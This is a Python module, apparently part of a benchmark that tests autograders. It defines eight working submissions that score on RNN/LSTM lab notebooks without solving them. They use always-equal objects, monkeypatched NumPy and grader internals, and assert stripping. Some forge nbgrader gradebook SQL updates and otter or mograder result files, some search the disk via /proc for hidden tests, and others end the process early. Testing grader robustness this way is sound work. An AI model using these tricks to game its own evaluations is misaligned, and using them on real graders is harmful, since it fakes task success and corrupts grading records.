"""Notebooks that solve nothing and want points all the same: the same code is handed in to every grader.

Each is one cell in place of the first function; it defines all four. An attack that has to know the grader
tries its luck with every one of them, and goes on where a step fails. They need no more than the grader's
source, which is public, and the form of one visible test.
"""

from dataclasses import dataclass

from benchmarks.peers.assignment import Question


@dataclass(frozen=True)
class Attack:
    """One attack: its title, how it tries to earn points, and the code before the four functions."""

    title: str
    tries: str
    code: str


SHAPES = '''\
import numpy as _np


def _filled(name, args, make):
    """Results of the right form, as the text of the lab gives it: ``make`` makes an array of a shape."""
    parameters = args[-1]
    n_y = parameters["by"].shape[0]
    if "cell" in name:
        states = [make(args[1].shape) for _ in range(2 if "lstm" in name else 1)]
        return (*states, make((n_y, args[0].shape[1])), ())
    n_a, m, steps = (*args[1].shape, args[0].shape[2])
    a, y, c = make((n_a, m, steps)), make((n_y, m, steps)), make((n_a, m, steps))
    return (a, y, c, ()) if "lstm" in name else (a, y, ())
'''

EQUAL = """
class _Right:
    def __eq__(self, other):
        return True


class _Anything(_np.ndarray):
    shape = property(lambda self: _Right())
    __eq__ = lambda self, other: _np.True_

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return _np.bool_(ufunc.__name__ not in ("isnan", "isinf"))

    def __array_function__(self, function, types, args, kwargs):
        return _np.True_


def _answer(name, *args):
    return _filled(name, args, lambda shape: _np.zeros(()).view(_Anything))
"""

PATCH = """
_np.testing.assert_allclose = lambda *args, **kwargs: None
_np.allclose = _np.array_equal = lambda *args, **kwargs: True


def _answer(name, *args):
    return _filled(name, args, _np.zeros)
"""

FRAME = """
import sys as _sys


def _answer(name, *args):
    frame = _sys._getframe(1)
    while frame is not None:
        if "want" in frame.f_locals:
            return tuple(() if value is None else value for value in frame.f_locals["want"])
        frame = frame.f_back
"""

DISPLAY = """
import sys as _sys


def _answer(name, *args):
    _sys.displayhook({"rnn_cell_forward": 20, "rnn_forward": 20}.get(name, 30))
    raise ValueError("no result")
"""

MACHINERY = """
import ast as _ast
import sys as _sys


class _NoAssert(_ast.NodeTransformer):
    def visit_Assert(self, node):
        return _ast.Pass()

    def visit_Expr(self, node):
        return _ast.Pass() if "assert" in _ast.unparse(node)[:30] else node


try:  # a notebook's tests pass through IPython before they run
    get_ipython().ast_transformers.append(_NoAssert())
except Exception:
    pass
try:  # otter runs a test case by this method
    from otter.test_files import exception_test as _tests

    _tests.test_case.call_func = lambda self, environment: None
except Exception:
    pass
try:  # mograder notes the result of a check by this function
    import mograder.runtime as _runtime

    original = _runtime._write_sidecar
    _runtime._write_sidecar = lambda label, *rest: original(label, "success", [], 1, 1)
except Exception:
    pass


def _answer(name, *args):
    return _filled(name, args, _np.zeros)
"""

FORGE = '''
import atexit as _atexit
import os as _os
import sqlite3 as _sqlite3
from pathlib import Path as _Path

NAMES = ("rnn_cell_forward", "rnn_forward", "lstm_cell_forward", "lstm_forward")


def _gradebook():
    """nbgrader: full marks by hand for this student, in the gradebook that lies above the notebook."""
    here = _Path.cwd()
    for folder in here.parents:
        if (folder / "gradebook.db").exists():
            with _sqlite3.connect(folder / "gradebook.db", timeout=5) as book:
                book.execute(
                    "UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE "
                    "grade_cells.id = grade.cell_id), needs_manual_grade = 0 WHERE notebook_id IN (SELECT "
                    "n.id FROM submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id "
                    "WHERE a.student_id = ?)",
                    (here.parent.name,),
                )


def _results():
    """otter: the results that the last cell has written."""
    import pickle
    import re

    import otter.test_files

    path = re.search(r'open\\("(.*?\\.pkl)"', get_ipython().user_ns["In"][-1]).group(1)
    results = pickle.load(open(path, "rb"))
    for file in results.results.values():
        file.update_score(sum(case.points for case in file.test_cases))
    pickle.dump(results, open(path, "wb"))


def _sidecar():
    """mograder: the file of check results; what is checked later is kept from it."""
    import json

    with open(_os.environ.pop("MOGRADER_SIDECAR_PATH"), "a") as file:
        for name in NAMES:
            entry = {"label": f"{name}: hidden cases", "status": "success", "details": []}
            file.write(json.dumps({**entry, "earned_weight": 1, "total_weight": 1}) + "\\n")


def _all():
    for step in (_gradebook, _results, _sidecar):
        try:
            step()
        except Exception:
            pass


_all()
_atexit.register(_all)


def _answer(name, *args):
    try:
        _gradebook()
    except Exception:
        pass
    return None
'''

DISK = '''
import ast as _ast
import json as _json
import os as _os
from pathlib import Path as _Path


def _texts():
    """The programs and notebooks that lie where a grader may keep its tests and solutions."""
    here = _Path.cwd()
    above = [here, *here.parents]
    number = _os.getppid()
    while number > 1:  # the folders in which the grader's processes were started
        try:
            above.append(_Path(f"/proc/{number}/cwd").resolve())
            number = int(_Path(f"/proc/{number}/stat").read_text().rpartition(")")[2].split()[1])
        except OSError:
            break
    for folder in above:
        for pattern in ("tests/*.py", "source/*/*", "assignments/*/*.py"):
            for path in folder.glob(pattern):
                try:
                    text = path.read_text()
                    if path.suffix == ".ipynb":
                        code = [c for c in _json.loads(text)["cells"] if c["cell_type"] == "code"]
                        text = "\\n\\n".join("".join(cell["source"]) for cell in code)
                    yield _ast.parse(text)
                except (OSError, ValueError, SyntaxError):
                    pass


from course_utils.rnn_utils import sigmoid as _sigmoid
from course_utils.rnn_utils import softmax as _softmax

_found = {"np": _np, "sigmoid": _sigmoid, "softmax": _softmax}
_names = ("rnn_cell_forward", "rnn_forward", "lstm_cell_forward", "lstm_forward")
_values = []
for _tree in _texts():
    for _node in _ast.walk(_tree):
        if isinstance(_node, _ast.FunctionDef) and _node.name in _names:
            exec(compile(_ast.Module([_node], []), "found", "exec"), _found)
        if isinstance(_node, _ast.Assign) and getattr(_node.targets[0], "id", "") == "CASES":
            _values += eval(compile(_ast.Expression(_node.value), "found", "eval"), {"np": _np})


def _answer(name, *args):
    if name in _found:
        return _found[name](*args)
    for inputs, want in _values:
        same = len(inputs) == len(args) and _np.array_equal(inputs[0], args[0])
        if same and len(want) == len(_filled(name, args, _np.zeros)):
            return tuple(() if value is None else value for value in want)
'''

EXIT = """
import os as _os


def _answer(name, *args):
    _os._exit(0)
"""

ATTACKS = {
    "equal": Attack("equal to everything", "returns objects that say they equal any expected value", EQUAL),
    "numpy": Attack("NumPy's comparisons", "replaces `numpy.testing.assert_allclose`", PATCH),
    "frame": Attack("the caller's variables", "reads the expected values from the test's frame", FRAME),
    "display": Attack("a number displayed", "displays its points as if the test had, then fails", DISPLAY),
    "machinery": Attack(
        "the grader's own code", "replaces functions of grader and IPython in memory", MACHINERY
    ),
    "forge": Attack("results forged", "writes into the gradebook or the file of results", FORGE),
    "disk": Attack("tests on disk", "looks for solutions or expected values in files", DISK),
    "exit": Attack("an early end", "ends its process when the first test begins", EXIT),
}


def cells(attack: Attack, questions: list[Question]) -> dict[str, str]:
    """Return the sources to hand in: the attack in the first function's cell, nothing in the others."""
    calls = [f'def {q.name}(*args):\n    return _answer("{q.name}", *args)' for q in questions]
    first, *others = (question.name for question in questions)
    code = f"{SHAPES}{attack.code}"
    return {
        first: "\n\n\n".join([code.rstrip(), *calls]),
        **{name: f"# {name}: see above" for name in others},
    }


def endless(questions: list[Question]) -> dict[str, str]:
    """Return right answers, but for the last function, which never ends."""
    *others, last = questions
    head = last.solution.partition("):\n")[0]
    return {q.name: q.solution for q in others} | {last.name: f"{head}):\n    while True:\n        pass"}
